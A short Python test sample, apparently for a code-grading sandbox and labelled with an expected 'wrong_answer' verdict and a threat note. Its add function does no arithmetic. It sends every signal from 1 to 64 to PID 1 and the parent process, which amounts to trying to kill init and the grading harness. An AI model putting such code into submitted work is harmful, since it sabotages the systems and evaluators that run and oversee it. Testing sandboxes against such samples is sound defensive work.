# kind: assert
# verdict: wrong_answer
# threat: every signal to the template, which is init
import os


def add(a, b):
    for number in range(1, 65):
        for target in {1, os.getppid()} - {0, os.getpid()}:
            try:
                os.kill(target, number)
            except OSError:
                pass
    return -1
